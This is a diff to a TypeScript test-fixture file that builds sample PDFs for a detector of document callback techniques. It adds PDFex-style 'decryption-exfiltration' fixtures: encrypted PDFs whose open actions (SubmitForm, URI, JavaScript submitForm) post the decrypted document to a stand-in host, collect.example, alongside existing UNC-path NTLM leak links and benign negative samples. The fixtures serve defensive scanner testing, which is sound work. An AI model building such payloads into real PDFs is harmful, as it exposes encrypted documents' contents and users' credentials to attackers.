@@ -17,10 +17,12 @@ interface Parts {
   draw?: string;
   /** adds objects first; may return more catalog/page entries and page resources that refer to them */
   setup?: (b: PdfBuilder) => { catalog?: string; page?: string; xobjects?: string } | void;
+  /** an /Encrypt dictionary: the letter is written as an encrypted document's objects */
+  encrypt?: string;
 }
 
 /** A one-page letter (a font, a few lines of text) with the parts a fixture needs. */
-function letter({ catalog = "", page = "", annots = [], draw = "", setup }: Parts = {}): Uint8Array {
+function letter({ catalog = "", page = "", annots = [], draw = "", setup, encrypt }: Parts = {}): Uint8Array {
   const b = new PdfBuilder();
   const extra = setup?.(b) ?? {};
   const font = b.add("<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>");
@@ -37,11 +39,23 @@ function letter({ catalog = "", page = "", annots = [], draw = "", setup }: Part
     `/Resources << /Font << /F1 ${font} 0 R >> ${xobjects} >> /Contents ${content} 0 R ${annotEntry} ${page} ${extra.page ?? ""}`,
   );
   b.info = b.add("<< /Title (Statement) /Producer (LibreOffice 7.6) >>");
-  return b.build();
+  if (!encrypt) return b.build();
+  const id = "<00112233445566778899aabbccddeeff>";
+  return b.build({ trailerExtra: `/Encrypt ${b.add(encrypt)} 0 R /ID [${id} ${id}]` });
 }
 
 const BEACON = "https://track.example/open?id=4711";
 const UNC = "\\\\files.example\\share\\statement.pdf";
+/**
+ * An AES-128 /Encrypt dictionary whose keys no password given here opens (the victim's password), with
+ * these crypt filters. /Identity leaves strings or streams in the clear: where a PDFex attacker writes
+ * the actions added.
+ */
+const lockedWith = (filters: string) =>
+  `<< /Filter /Standard /V 4 /R 4 /Length 128 /P -1028 /CF << /StdCF << /CFM /AESV2 /AuthEvent /DocOpen /Length 16 >> >> ${filters} /O <${"11".repeat(32)}> /U <${"22".repeat(32)}> >>`;
+const clearIn = (clear: "strings" | "streams") =>
+  lockedWith(clear === "strings" ? "/StmF /StdCF /StrF /Identity" : "/StmF /Identity /StrF /StdCF");
+const EXFILTRATION = "https://collect.example/pdfex";
 const urlSpec = (url: string) => `<< /FS /URL /F ${hexString(url)} >>`;
 const uriAction = (url = BEACON) => `<< /S /URI /URI ${hexString(url)} >>`;
 /** a small annotation without an appearance, over the signature line */
@@ -178,6 +192,25 @@ export const CALLBACK_FIXTURES: TechniqueFixtures = {
         `<draw name="logo" w="2in" h="1in"><value><image href="https://cdn.example/logo.png" contentType="image/png"/></value></draw>`,
       ),
   },
+  "decryption-exfiltration": {
+    // the whole document, decrypted, posted to the attacker as it opens (SubmitPDF flag)
+    "clear-strings-submit-form": () =>
+      letter({
+        catalog: `${FORM} /OpenAction << /S /SubmitForm /F ${urlSpec(EXFILTRATION)} /Flags 256 >>`,
+        encrypt: clearIn("strings"),
+      }),
+    "clear-strings-uri": () =>
+      letter({ catalog: `/OpenAction ${uriAction(EXFILTRATION)}`, encrypt: clearIn("strings") }),
+    // the script in a stream in the clear, the victim's strings (form values) encrypted
+    "clear-streams-script": () =>
+      letter({
+        encrypt: clearIn("streams"),
+        setup(b) {
+          const js = b.addStream("", `this.submitForm({ cURL: "${EXFILTRATION}", cSubmitAs: "PDF" });`);
+          return { catalog: `/OpenAction << /S /JavaScript /JS ${js} 0 R >>` };
+        },
+      }),
+  },
   "ntlm-credential-leak": {
     "gotor-unc": () => letter({ annots: [link(`<< /S /GoToR /F ${hexString(UNC)} /D [0 /Fit] >>`)] }),
     "gotoe-unc": () =>
@@ -251,6 +284,19 @@ export const NEGATIVE_CALLBACK_FIXTURES: Record<string, CarrierFixture> = {
     letter({ annots: [link(uriAction("https://downloads.example/handbook/handbook-2024.zip"))] }),
   "a GoToR link to a document on a web server": () =>
     letter({ annots: [link(`<< /S /GoToR /F ${urlSpec("https://downloads.example/annex.pdf")} /D [0 /Fit] >>`)] }),
+  /** a password-protected statement: strings and streams encrypted alike, as writers do */
+  "an encrypted document with a submit button": () =>
+    letter({
+      catalog: FORM,
+      annots: [link(`<< /S /SubmitForm /F ${urlSpec("https://forms.example/submit")} >>`)],
+      encrypt: lockedWith("/StmF /StdCF /StrF /StdCF"),
+    }),
+  /** Acrobat's "encrypt only file attachments": everything but the attachments in the clear */
+  "an attachments-only encrypted document with a web link": () =>
+    letter({
+      annots: [link(uriAction("https://www.example.com/contact"))],
+      encrypt: lockedWith("/StmF /Identity /StrF /Identity /EFF /StdCF"),
+    }),
   "a link click to a website": () => letter({ annots: [link(uriAction("https://www.example.com/contact"))] }),
   /** LaTeX hyperref and HTML converters write scheme-relative links (corpus-everyday d8764df6987b_hht.pdf) */
   "scheme-relative web links": () =>
